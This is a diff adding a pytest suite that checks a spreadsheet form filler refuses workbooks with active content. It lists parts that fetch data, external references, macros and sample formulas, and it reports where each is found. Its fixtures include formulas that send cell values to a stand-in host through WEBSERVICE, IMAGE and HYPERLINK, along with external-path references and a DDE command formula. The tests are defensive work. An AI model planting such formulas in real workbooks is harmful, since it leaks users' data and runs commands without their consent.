@@ -1,0 +1,188 @@
+"""A form that fetches or sends something is refused, with the place and what to do."""
+
+import pytest
+
+from sheets.fill import fill_cells, open_blank
+from sheets.fill.errors import ActiveContent, MacroWorkbook, SignedWorkbook
+from tests.sheets.books import OFFICE, PACKAGE, cell, raw_book, sheet_xml
+
+ROWS = f'<row r="1">{cell("A1", "党员数")}</row>'
+TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml."
+
+
+def form(tmp_path, *, formula="", after="", more=None):
+    rows = ROWS
+    if formula:
+        text = formula.replace("&", "&amp;").replace("<", "&lt;")
+        rows += f'<row r="4"><c r="B4"><f>{text}</f><v>0</v></c></row>'
+    sheet = sheet_xml(rows, after=after)
+    return raw_book(tmp_path / "form.xlsx", sheet, more=more)
+
+
+def refusal_of(path):
+    with pytest.raises(ActiveContent) as refused:
+        open_blank(path, filename="form.xlsx")
+    with pytest.raises(ActiveContent):
+        fill_cells(path, {})
+    return refused.value
+
+
+def types(*entries):
+    return f'<Types xmlns="{PACKAGE}/content-types">{"".join(entries)}</Types>'
+
+
+def references(kind, target, mode=""):
+    return (
+        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r9"'
+        f' Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
+    )
+
+
+PARTS = [
+    "xl/externalLinks/externalLink1.xml",
+    "xl/connections.xml",
+    "xl/queryTables/queryTable1.xml",
+    "xl/embeddings/oleObject1.bin",
+    "xl/embeddings/Microsoft_Word_Document1.docx",
+    "xl/webextensions/taskpanes.xml",
+    "xl/richData/rdRichValueWebImage.xml",
+    "xl/volatileDependencies.xml",
+    "xl/model/item.data",
+    "XL\\EXTERNALLINKS\\a.xml",
+]
+
+
+@pytest.mark.parametrize("name", PARTS)
+def test_a_part_that_fetches_is_refused_by_its_name(tmp_path, name):
+    refused = refusal_of(form(tmp_path, more={name: b"<a/>"}))
+
+    assert refused.params["where"] == name.replace("\\", "/").lower()
+
+
+@pytest.mark.parametrize(
+    "kind", ["externalLink", "connections", "queryTable", "volatileDependencies"]
+)
+@pytest.mark.parametrize(
+    "written", [str, lambda kind: f"&#x{ord(kind[0]):x};{kind[1:]}"]
+)
+def test_such_a_part_under_another_name_is_refused_by_its_type(tmp_path, kind, written):
+    entry = f'<Override PartName="/xl/a.xml" ContentType="{TYPE}{written(kind)}+xml"/>'
+
+    refused = refusal_of(form(tmp_path, more={"[Content_Types].xml": types(entry)}))
+
+    assert refused.params["where"] == "xl/a.xml"
+
+
+@pytest.mark.parametrize(
+    ("kind", "mode"),
+    [
+        ("oleObject", ""),
+        ("package", ""),
+        ("connections", ""),
+        ("image", ' TargetMode="External"'),
+        ("externalLinkPath", ' TargetMode="External"'),
+        ("attachedTemplate", ' TargetMode="External"'),
+        ("anything", ' TargetMode="external"'),
+    ],
+)
+def test_a_reference_that_is_followed_by_itself_is_refused(tmp_path, kind, mode):
+    target = "https://example.org/x" if mode else "../a.bin"
+    name = "xl/worksheets/_rels/sheet1.xml.rels"
+
+    refused = refusal_of(form(tmp_path, more={name: references(kind, target, mode)}))
+
+    assert refused.params["where"] == target
+
+
+FORMULAS = [
+    'WEBSERVICE("https://example.org/?n="&B3)',
+    '_xlfn.WEBSERVICE("https://example.org/?n="&B3)',
+    "SUM(1, webservice (A1))",
+    'FILTERXML(A1,"//a")',
+    'RTD("a","b","c")',
+    '_xlfn.IMAGE("https://example.org/"&B3)',
+    "_xlfn.ENCODEURL(B3)",
+    "_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)",
+    "_xlfn._xlws.PY(0,1)",
+    'CUBEVALUE("a","b")',
+    'HYPERLINK("https://example.org/?n="&B3,"点击核对")',
+    "HYPERLINK(B3)",
+    'HYPERLINK (CONCATENATE("https://example.org/",B3))',
+    "_xlfn.MAP(A1:A3,_xleta.HYPERLINK)",
+    "[1]!'!A1'",
+    "[1]表!A1+1",
+    "SUM('[1]表 一'!A1)",
+    "'https://example.org/[a.xlsx]表'!A1",
+    r"'\\example\share\[a.xlsx]表'!A1",
+    "cmd|'/c calc'!A1",
+    '"a"&WEBSERVICE(A1)&"',
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_that_fetches_or_sends_is_refused_with_its_cell(tmp_path, formula):
+    assert refusal_of(form(tmp_path, formula=formula)).params["where"] == "名册!B4"
+
+
+VALIDATION = (
+    '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>'
+    "WEBSERVICE(A1)=1</formula1></dataValidation></dataValidations>"
+)
+CONDITION = (
+    '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
+    "<formula>WEBSERVICE(A1)=1</formula></cfRule></conditionalFormatting>"
+)
+
+
+@pytest.mark.parametrize("after", [VALIDATION, CONDITION])
+def test_a_rule_that_fetches_is_refused_with_its_sheet(tmp_path, after):
+    assert refusal_of(form(tmp_path, after=after)).params["where"] == "名册"
+
+
+def test_a_name_that_fetches_is_refused(tmp_path):
+    name = "<definedName name='a'>WEBSERVICE(B3)</definedName>"
+    properties = f"<definedNames>{name}</definedNames>"
+    path = raw_book(tmp_path / "form.xlsx", sheet_xml(ROWS), properties=properties)
+
+    assert refusal_of(path).params["where"] == "xl/workbook.xml"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM(B3:B9)",
+        'IF(A1="WEBSERVICE(1)","是|否","[1]表!A1")',
+        "表1[[#This Row],[1]]*2",
+        "SUM(表1[人数])",
+        "'表 一'!A1",
+        'HYPERLINK("https://example.org/","说明")',
+        'HYPERLINK("#"&A1&"!A1",A1)',
+        'HYPERLINK("#目录!A1")',
+        "MYIMAGE(1)",
+        "INDIRECT(A1)",
+    ],
+)
+def test_what_only_computes_or_waits_for_a_click_is_taken(tmp_path, formula):
+    assert open_blank(form(tmp_path, formula=formula), filename="form.xlsx").grids
+
+
+def test_a_link_that_leads_somewhere_when_clicked_is_taken(tmp_path):
+    name = "xl/worksheets/_rels/sheet1.xml.rels"
+    mode = ' TargetMode="External"'
+    more = {name: references("hyperlink", "https://example.org/model/", mode)}
+
+    assert open_blank(form(tmp_path, more=more), filename="form.xlsx").grids
+
+
+@pytest.mark.parametrize(
+    ("name", "refusal"),
+    [
+        ("xl/vbaProject.bin", MacroWorkbook),
+        ("xl/activeX/activeX1.xml", MacroWorkbook),
+        ("xl/macrosheets/sheet1.xml", MacroWorkbook),
+        ("_xmlsignatures/sig1.xml", SignedWorkbook),
+    ],
+)
+def test_macros_controls_and_signatures_are_refused_as_before(tmp_path, name, refusal):
+    with pytest.raises(refusal):
+        open_blank(form(tmp_path, more={name: b"<a/>"}), filename="form.xlsx")
